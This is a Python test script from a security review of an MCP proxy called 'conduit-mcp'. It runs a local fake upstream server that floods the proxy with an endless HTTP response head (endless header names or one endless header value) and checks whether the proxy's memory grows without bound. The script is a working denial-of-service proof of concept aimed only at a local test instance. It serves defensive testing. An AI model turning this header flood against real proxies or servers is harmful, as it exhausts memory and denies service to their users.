"""R2: an upstream HTTP server that answers a 2026-07-28 request with an endless response head
(one header line that never ends, or endless distinct header names) makes the listener's pooled
POST path (`_h1`) hold it all: httptools gathers each header, `_Connection.on_header` keeps
every name, and nothing bounds the head before REQUEST_TIMEOUT (300 s). The proxy's memory
grows with what the server sends (DoS of every client of the listener).

Run: .venv/bin/python review2/r2_header_flood.py [names|value]   (exit 1: broken, 0: held)"""
import json, os, socket, subprocess, sys, threading, time, urllib.request
HERE = os.path.dirname(os.path.abspath(__file__))
BIN = os.path.join(HERE, "..", ".venv", "bin", "conduit-mcp")
MODE = sys.argv[1] if len(sys.argv) > 1 else "names"
SENT = [0]

def upstream(sock):
    conn, _ = sock.accept()
    conn.recv(65536)
    conn.sendall(b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\n")
    if MODE == "value":
        conn.sendall(b"x-flood: ")
    chunk_i = 0
    try:
        while SENT[0] < 600 * 2**20:
            if MODE == "names":
                data = b"".join(b"x-%d-%d: v\r\n" % (chunk_i, j) for j in range(20000))
            else:
                data = b"a" * 2**20
            conn.sendall(data); SENT[0] += len(data); chunk_i += 1
    except OSError:
        pass

srv = socket.socket(); srv.bind(("127.0.0.1", 0)); srv.listen(8)
up = srv.getsockname()[1]
threading.Thread(target=upstream, args=(srv,), daemon=True).start()
lis = socket.socket(); lis.bind(("127.0.0.1", 0)); port = lis.getsockname()[1]; lis.close()
proxy = subprocess.Popen([BIN, "proxy", "--server-id", "flood", "--upstream",
                          f"http://127.0.0.1:{up}/mcp", "--listen", f"127.0.0.1:{port}"],
                         stderr=subprocess.DEVNULL)
time.sleep(3)
body = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "tools/list", "params": {"_meta": {
    "io.modelcontextprotocol/protocolVersion": "2026-07-28",
    "io.modelcontextprotocol/clientCapabilities": {}}}}).encode()
req = urllib.request.Request(f"http://127.0.0.1:{port}/mcp", body, {
    "content-type": "application/json", "accept": "application/json, text/event-stream",
    "mcp-protocol-version": "2026-07-28", "mcp-method": "tools/list"})
threading.Thread(target=lambda: urllib.request.urlopen(req, timeout=60).read(), daemon=True).start()
def rss():
    with open(f"/proc/{proxy.pid}/status") as f:
        return next(int(l.split()[1]) // 1024 for l in f if l.startswith("VmRSS"))
base = rss()
peak = base
for _ in range(40):
    time.sleep(0.5)
    peak = max(peak, rss())
    if SENT[0] >= 600 * 2**20:
        break
proxy.kill()
print(f"mode={MODE} upstream sent {SENT[0] >> 20} MiB of head; proxy RSS {base} -> {peak} MiB")
broken = peak - base > 200
print("BROKEN: the head is held without bound" if broken else "held")
sys.exit(1 if broken else 0)
